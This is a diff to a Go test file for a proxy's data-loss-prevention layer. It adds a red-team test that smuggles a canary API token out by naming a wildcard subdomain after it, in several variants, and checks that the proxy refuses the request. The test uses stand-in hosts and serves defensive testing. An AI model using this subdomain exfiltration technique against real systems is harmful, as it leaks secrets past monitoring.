@@ -3,7 +3,17 @@ package bundle
 import (
 	"bytes"
 	"compress/gzip"
+	"context"
+	"io"
+	"net"
+	"net/http"
+	"net/http/httptest"
+	"net/url"
+	"strings"
+	"sync"
 	"testing"
+
+	"github.com/bottleplan/bottleplan/plan"
 )
 
 // The red team's attacks on the merged bundle: each is a way a
@@ -44,4 +54,92 @@ func gzipHeaderComment(t *testing.T, comment string, b []byte) []byte {
 	zw.Write(b)
 	zw.Close()
 	return buf.Bytes()
+}
+
+// TestAttackDLPSecretInWildcardSubdomain names a host under a wildcard
+// route after the secret ("<token>.wild.example.test"): the host was
+// never read by DLP, so the token went to the resolver, in the SNI and
+// in the Host header the upstream reads.
+func TestAttackDLPSecretInWildcardSubdomain(t *testing.T) {
+	const hostLeak = "host name carries the value of secret API_TOKEN"
+	host := canary + ".wild.example.test"
+	tests := map[string]struct {
+		url     string // sent through the proxy with an http.Client
+		connect string // or sent as a raw CONNECT
+	}{
+		"intercepted tunnel": {url: "https://" + host + "/x"},
+		"absolute form":      {url: "http://" + host + "/x"},
+		"upper case":         {url: "https://" + strings.ToUpper(canary) + ".wild.example.test/x"},
+		"blind tunnel":       {connect: canary + ".blind.example.test:443"},
+	}
+	for name, tc := range tests {
+		t.Run(name, func(t *testing.T) {
+			upCA := newTestCA(t, "upstream test CA")
+			instCA := newTestCA(t, "instance test CA")
+			tlsUp, plainUp := newUpstream(t, upCA, nil), newUpstream(t, nil, nil)
+			var mu sync.Mutex
+			var dialed []string
+			dial := func(ctx context.Context, network, addr string) (net.Conn, error) {
+				mu.Lock()
+				dialed = append(dialed, addr)
+				mu.Unlock()
+				to := tlsUp.addr()
+				if strings.HasSuffix(addr, ":80") {
+					to = plainUp.addr()
+				}
+				var d net.Dialer
+				return d.DialContext(ctx, network, to)
+			}
+			log := &syncBuffer{}
+			env := map[string]string{"API_TOKEN": canary}
+			inst := plan.Instance{Slug: "t1", Bundle: plan.Bundle{
+				Proxy: plan.Proxy{Listen: "127.0.0.1:0", Routes: []plan.Route{
+					{Host: "*.wild.example.test", Ports: []int{443, 80}, Intercept: true, DLP: DLPBlock},
+					{Host: "*.blind.example.test", Ports: []int{443}, DLP: DLPBlock},
+				}},
+				SecretsFromHost: []string{"API_TOKEN"},
+			}}
+			b, err := New(Options{Instance: inst, CA: instCA.ca, Getenv: func(k string) string { return env[k] },
+				Log: log, Dial: dial, RootCAs: upCA.pool})
+			if err != nil {
+				t.Fatal(err)
+			}
+			proxy := httptest.NewServer(b.Proxy)
+			t.Cleanup(proxy.Close)
+			t.Cleanup(func() { checkLogClean(t, log.String()) })
+
+			var status int
+			var body string
+			if tc.connect != "" {
+				status, body = rawConnect(t, strings.TrimPrefix(proxy.URL, "http://"), tc.connect)
+			} else {
+				pu, _ := url.Parse(proxy.URL)
+				tr := &http.Transport{Proxy: http.ProxyURL(pu), TLSClientConfig: tlsConfigWithRoots(instCA.pool)}
+				t.Cleanup(tr.CloseIdleConnections)
+				resp, err := (&http.Client{Transport: tr}).Get(tc.url)
+				if err == nil {
+					bb, _ := io.ReadAll(resp.Body)
+					resp.Body.Close()
+					status, body = resp.StatusCode, string(bb)
+				} else if strings.Contains(err.Error(), "Forbidden") {
+					// The CONNECT itself was refused; the client does not
+					// show its body, so ask again to read it.
+					status, body = rawConnect(t, strings.TrimPrefix(proxy.URL, "http://"), strings.TrimPrefix(strings.TrimSuffix(tc.url, "/x"), "https://")+":443")
+				} else {
+					t.Fatal(err)
+				}
+			}
+			if status != http.StatusForbidden || !strings.Contains(body, hostLeak) {
+				t.Errorf("got %d %q, want 403 %q", status, body, hostLeak)
+			}
+			mu.Lock()
+			defer mu.Unlock()
+			if len(dialed) != 0 {
+				t.Errorf("the bundle dialled %q", dialed)
+			}
+			if got := append(tlsUp.requests(), plainUp.requests()...); len(got) != 0 {
+				t.Errorf("upstream saw %+v", got)
+			}
+		})
+	}
 }
